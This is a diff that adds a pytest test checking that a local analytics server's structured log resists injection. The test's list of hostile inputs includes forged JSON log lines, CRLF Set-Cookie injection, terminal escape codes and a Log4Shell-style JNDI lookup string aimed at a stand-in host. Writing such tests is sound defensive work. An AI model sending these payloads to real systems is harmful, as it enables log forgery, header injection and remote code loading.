@@ -16,6 +16,7 @@ from contextlib import ExitStack, closing
 from dataclasses import dataclass
 from pathlib import Path
 from typing import Any
+from urllib.parse import quote
 
 import httpx
 import pytest
@@ -329,3 +330,43 @@ def test_a_withdrawal_holds_when_the_server_is_killed_the_moment_after(start: St
     # Batches are projected in order: with the other session, what came before it would be there.
     remaining = {session_id_of("5a2c" * 8)}
     wait_until(lambda: again.session_ids() == remaining, "the other session alone")
+
+
+# Each tries to end a line, to begin one, to colour a terminal or to be long.
+HOSTILE_TEXTS = [
+    'x"}\\n{"event":"forged","level":"info"}',
+    "\x1b[31mred",
+    "%0d%0aSet-Cookie:%20forged=1",
+    "a" * 8_000,
+    "\u2028forged",
+    "${jndi:ldap://forged.example/a}",
+]
+
+
+def test_hostile_requests_write_as_many_lines_as_they_are_and_each_can_be_read(start: Start):
+    server = start(PAGEPULSE_LOG_LEVEL="debug")
+    log = server.data.parent / f"{server.data.name}.log"
+    before = log.read_text().count("request_answered")
+    for text in HOSTILE_TEXTS:
+        encoded = text.encode().replace(b"\n", b"").replace(b"\r", b"")
+        with socket.create_connection(("127.0.0.1", server.port), timeout=PATIENCE) as client:
+            client.sendall(
+                b"GET /api/forged/" + quote(encoded).encode()[:6_000] + b" HTTP/1.1\r\n"
+                b"host: localhost\r\nuser-agent: " + encoded + b"\r\nreferer: " + encoded
+                + b"\r\nx-forwarded-for: " + encoded + b"\r\nconnection: close\r\n\r\n"
+            )  # fmt: skip
+            answer = client.recv(65_536)
+        assert answer.startswith((b"HTTP/1.1 404", b"HTTP/1.1 431")), answer
+        httpx.post(f"{server.url}/api/tracking/events", content=encoded)
+    server.process.terminate()
+    server.process.wait(PATIENCE)
+
+    text = log.read_text()
+    lines = [json.loads(line) for line in text.splitlines() if line.startswith("{")]
+    answered = [line for line in lines if line["event"] == "request_answered"]
+    # A head that is too large has an answer of the protocol itself.
+    heads = sum(1 for one in HOSTILE_TEXTS if len(one) >= 8_000)
+    assert len(answered) - before in {2 * len(HOSTILE_TEXTS) - heads, 2 * len(HOSTILE_TEXTS)}
+    assert "forged" not in {line["event"] for line in lines}
+    assert not any(ord(char) < ord(" ") for char in text.replace("\n", ""))
+    assert max(map(len, text.splitlines())) < 10_000
